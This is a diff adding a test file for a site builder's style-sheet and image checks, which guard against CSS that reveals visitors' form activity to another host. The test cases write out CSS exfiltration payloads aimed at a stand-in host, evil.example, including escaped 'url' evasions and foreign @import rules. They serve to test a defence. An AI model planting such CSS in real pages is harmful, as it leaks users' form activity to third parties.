@@ -1,0 +1,135 @@
+/** Threat: a style sheet or an image that tells another host what a visitor does in a form. */
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { array, assert, constantFrom, property } from 'fast-check'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { transform } from 'esbuild'
+import { checkStyleSheet } from '../../builder/content/style-sheet.ts'
+import { build } from '../../builder/release/build.ts'
+import { Work } from '../../builder/work/work.ts'
+import { createPolicies } from '../../builder/release/policies.ts'
+import { checkContent, toLine } from '../builder/check-content.ts'
+
+const OWN = ['https://www.example.com']
+const check = (css: string) =>
+  checkStyleSheet('theme.css', css, OWN).map(({ line, column, rule }) => `${line}:${column} ${rule}`)
+
+test.each([
+  ['what was checked', 'label:has(:checked) { background: url(https://evil.example/yes) }', ['1:35 foreign-address']],
+  ['a text', 'a { background: url("https://evil.example/a") }', ['1:21 foreign-address']],
+  ['an address without a scheme', 'a {\n  background: url(//evil.example/a)\n}', ['2:15 foreign-address']],
+  ['an address with backslashes', String.raw`a { background: url("\\\\evil.example/a") }`, ['1:21 foreign-address']],
+  ['another scheme', 'a { background: url(http:evil.example/a) }', ['1:17 foreign-address']],
+  ['an escaped function', String.raw`a { background: u\72l(https://evil.example/a) }`, ['1:17 foreign-address']],
+  ['an escaped address', String.raw`a { background: url(https\3a//evil.example/a) }`, ['1:17 foreign-address']],
+  ['a set of images', 'a { background: image-set("https://evil.example/a" 1x) }', ['1:27 foreign-address']],
+  [
+    'a custom property',
+    ':root { --x: "https://evil.example/a" } a { background: image-set(var(--x) 1x) }',
+    ['1:14 foreign-address'],
+  ],
+  ['a font', '@font-face { font-family: x; src: url(https://evil.example/f.woff2) }', ['1:35 foreign-address']],
+  ['an import', '@import "other.css";', ['1:1 style-import']],
+  [
+    'an import of another host',
+    '@IMPORT url(https://evil.example/a.css);',
+    ['1:1 style-import', '1:9 foreign-address'],
+  ],
+  ['an escaped import', String.raw`@\69mport "a.css";`, ['1:1 style-import']],
+  ['a text without its end', 'a { content: "x\n}', ['1:14 css-syntax']],
+  ['a comment without its end', 'a {}\n/* x', ['2:1 css-syntax']],
+  ['a backslash at the end of a line', 'a { color: \\\n }', ['1:12 css-syntax']],
+  ['a line break within an address', 'a { background: url("ht\\\ntps://evil.example/a") }', ['1:21 foreign-address']],
+])('a style sheet is refused for %s', (_, css, faults) => {
+  expect(check(css)).toEqual(faults)
+})
+
+test.each([
+  'a { background: url(/assets/paper.png) }',
+  'a { background: url("../assets/paper.png") }',
+  'a { background: url(https://www.example.com/assets/paper.png) }',
+  'a { background: url(data:image/png;base64,AAAA); filter: url(#blur) }',
+  'a::after { content: "Note: see //comments, http and https" }',
+  '/* @import url(https://evil.example/) */ a { color: red }',
+])('a style sheet may hold %s', (css) => {
+  expect(check(css)).toEqual([])
+})
+
+test('a style sheet that passes still does when it is minified', async () => {
+  const part = constantFrom(
+    'a{',
+    '}',
+    'background:',
+    'url(',
+    '"',
+    "'",
+    ')',
+    ';',
+    '\\',
+    '\n',
+    '/*',
+    '*/',
+    '@import ',
+    'u\\72l(',
+    '--x:',
+    'image-set(',
+    'https:',
+    '//evil.example/a',
+    'evil.example',
+    ' ',
+    '\\68ttps:',
+    'https\\3a ',
+    '\0',
+  )
+  const passed: string[] = []
+  assert(
+    property(array(part, { minLength: 3, maxLength: 14 }), (parts) => {
+      const css = parts.join('')
+      if (check(css).length === 0) passed.push(css)
+    }),
+    { numRuns: 3000 },
+  )
+  expect(passed.length).toBeGreaterThan(100)
+  const minified = await Promise.all(
+    passed.map((css) => transform(css, { loader: 'css', minify: true, logLevel: 'silent' })),
+  )
+  expect(minified.flatMap(({ code }) => check(code))).toEqual([])
+})
+
+let folder: string
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'lectern-style-'))
+  mkdirSync(join(folder, 'pages'))
+  writeFileSync(join(folder, 'site.yaml'), 'name: N\ndescription: D\nurl: https://www.example.com\n')
+  writeFileSync(join(folder, 'pages/index.md'), '---\ntitle: T\ndescription: D\n---\n\nText.\n')
+  writeFileSync(join(folder, 'theme.css'), '/* Ours */\na { background: url(//evil.example/a) }\n')
+})
+afterAll(() => rmSync(folder, { recursive: true }))
+
+test('a build tells where a style sheet loads from another host', async () => {
+  const settings = { url: undefined, now: new Date(0), captcha: undefined, reloadUrl: undefined }
+  const { messages } = await build({ content: folder, check: true, ...settings }, new Work())
+  expect(messages.map(toLine)).toEqual([
+    'theme.css:2:17 error foreign-address The style sheet loads "//evil.example/a" from another host, which would learn what visitors do.',
+  ])
+  expect(messages[0]?.excerpt?.text).toBe('a { background: url(//evil.example/a) }')
+})
+
+test('a page with a form shows images of the site alone', () => {
+  const { 'form-page': form, page } = createPolicies({ url: 'https://www.example.com' })
+  const policyOf = (policy: typeof form) => policy?.headers.find(([name]) => name === 'Content-Security-Policy')?.[1]
+  expect(policyOf(form)).toContain("img-src 'self' data:; media-src 'self';")
+  expect(policyOf(page)).toContain("img-src 'self' https: data:; media-src 'self' https:;")
+})
+
+const withImages = (form: string) => ({
+  'pages/contact.md': `---\ntitle: T\ndescription: D\n${form}---\n\n![a](https://evil.example/a.png) <img src="//evil.example/b.png" alt="b">\n\n![c][1]\n\n[1]: https://evil.example/c.png\n`,
+})
+
+test('a page with a form is told of each image of another host', () => {
+  expect(
+    checkContent(withImages('form: contact\n')).map(({ line, column, rule }) => `${line}:${column} ${rule}`),
+  ).toEqual(['7:6 foreign-image', '7:44 foreign-image', '11:6 foreign-image'])
+  expect(checkContent(withImages('')).map(toLine)).toEqual([])
+})
